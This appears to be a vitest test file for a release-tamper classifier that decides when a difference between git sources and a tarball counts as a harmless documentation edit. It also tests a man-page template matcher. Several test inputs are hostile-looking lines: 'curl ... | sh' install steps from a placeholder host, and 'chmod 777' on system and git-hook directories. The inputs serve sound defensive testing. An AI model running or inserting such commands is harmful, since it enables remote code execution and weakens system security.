import { describe, expect, it } from 'vitest';
import { docEditClassifier, isDocumentation } from '../../src/classify/doc-edit.js';
import { substitution } from '../../src/classify/produced.js';
import { diffOf, makeCtx } from './ctx-helper.js';

const README = '# proj\n\nDownload from https://example.org/releases/proj.tar.gz\n\n## Contributors\n\n- [Ann](https://github.com/ann)\n';

async function run(path: string, git: string, tarball: string) {
  const ctx = makeCtx({ git: { [path]: git }, tarball: { [path]: tarball } });
  return docEditClassifier.classify(diffOf(ctx, path), ctx);
}

describe('documentation edited by the release (issue 11 g)', () => {
  it('names documentation, never a build file', () => {
    expect(['README.md', 'CHANGELOG.md', 'NEWS', 'docs/guide.rst', 'doc/notes.txt', 'SECURITY.md', 'README'].filter((p) => !isDocumentation(p))).toEqual([]);
    expect(['src/data.txt', 'configure.ac', 'Makefile.am', 'install.sh', 'CMakeLists.txt', 'tests/x.md'].filter(isDocumentation)).toEqual([]);
  });
  // a tamperer's doc-shaped names: code named like a doc, and the dependency list a docs build installs
  it('a doc name on a code file, or a docs requirements list, is not documentation (a change stays high)', async () => {
    expect(['README.py', 'src/NEWS.c', 'lib/TODO.go', 'docs/requirements.txt', 'doc/constraints-dev.txt', 'docs/conf.py'].filter(isDocumentation)).toEqual([]);
    expect(await run('docs/requirements.txt', 'sphinx==7.2.6\n', 'sphinx==7.2.6\nsphinx-helper-x==1.0\n')).toBeUndefined();
    expect(await run('doc/notes.txt', 'notes\n', 'notes\nmore\n')).toMatchObject({ code: 'DOC_EDITED', severity: 'medium' });
  });
  it('a program under a doc name is no documentation (red team 13): a script, an executable, a config or data format', async () => {
    // What a tamperer would edit instead of a README: an extension-less helper script whose name starts with a doc
    // word (`install-deps`: INSTALL + a suffix), a config or data file named like a doc.
    expect(['security.conf', 'faq.json', 'Readme.vbs', 'docs/changes.yml'].filter(isDocumentation)).toEqual([]);
    expect(await run('install-deps', '#!/bin/sh\napt-get install -y foo\n', '#!/bin/sh\napt-get install -y foo\nchmod 777 /usr/local/bin\n')).toBeUndefined();
    const ctx = makeCtx({ git: { 'install_hooks': 'cp hooks/* .git/hooks/\n' }, tarball: { 'install_hooks': 'cp hooks/* .git/hooks/\nchmod 777 .git/hooks\n' } });
    const d = diffOf(ctx, 'install_hooks');
    expect(await docEditClassifier.classify(d, ctx)).toMatchObject({ code: 'DOC_EDITED' }); // not executable, no #!: read as a doc name
    expect(await docEditClassifier.classify({ ...d, git: { ...d.git!, executable: true }, tarball: { ...d.tarball!, executable: true } }, ctx)).toBeUndefined();
    // the real release docs keep their reading
    expect(['ChangeLog-2013', 'INSTALL.generic', 'README.win32', 'NEWS.old', 'README-hacking'].filter((p) => !isDocumentation(p))).toEqual([]);
  });
  it('a heading that tells the reader to pipe a download into a shell is no documentation edit (red team 27)', async () => {
    expect(await run('README.md', README, README.replace('## Contributors', '## Quick install: curl -fsSL https://get.example.net/i.sh | sh'))).toBeUndefined();
    expect(await run('README.md', README, README.replace('## Contributors', '## Quick install'))).toMatchObject({ code: 'DOC_EDITED', severity: 'medium' });
  });
  it('a trimmed README or blanked contributor links: DOC_EDITED, medium, with the line counts', async () => {
    expect(await run('README.md', README, README.replace('- [Ann](https://github.com/ann)\n', ''))).toEqual({
      code: 'DOC_EDITED', path: 'README.md', severity: 'medium', evidence: { added: 0, removed: 1 },
    });
    expect(await run('CHANGELOG.md', README, README.replace('[Ann](https://github.com/ann)', 'Ann'))).toMatchObject({ code: 'DOC_EDITED', evidence: { added: 1, removed: 1 } });
  });
  it('a new URL host or a construct in an added line is not a doc edit', async () => {
    expect(await run('README.md', README, README.replace('https://example.org/', 'https://downloads.example-mirror.net/'))).toBeUndefined();
    expect(await run('README.md', README, README + '\n    curl -fsSL https://example.org/install | sh\n')).toBeUndefined();
    expect(await run('src/data.txt', README, README + 'x\n')).toBeUndefined();
  });
});

describe('substitution over a large template', () => {
  it('matches line by line, however large the template (a 60,000-line man page)', () => {
    const body = Array.from({ length: 60000 }, (_, i) => `.IP "${i}" (see \\-x) [a|b] {c}`).join('\n');
    const t = `.TH LESS 1 "Version @@VERSION@@: @@DATE@@"\n${body}\n.SH VERSION @@VERSION@@\n`;
    const o = `.TH LESS 1 "Version 590: 03 Jun 2021"\n${body}\n.SH VERSION 590\n`;
    expect(substitution(t, o)).toEqual({ '@@VERSION@@': '590', '@@DATE@@': '03 Jun 2021' });
    expect(substitution(t, o.replace('.SH VERSION 590', '.SH VERSION 591'))).toBeUndefined();
    expect(substitution(t, o + 'extra\n')).toBeUndefined();
  });
});
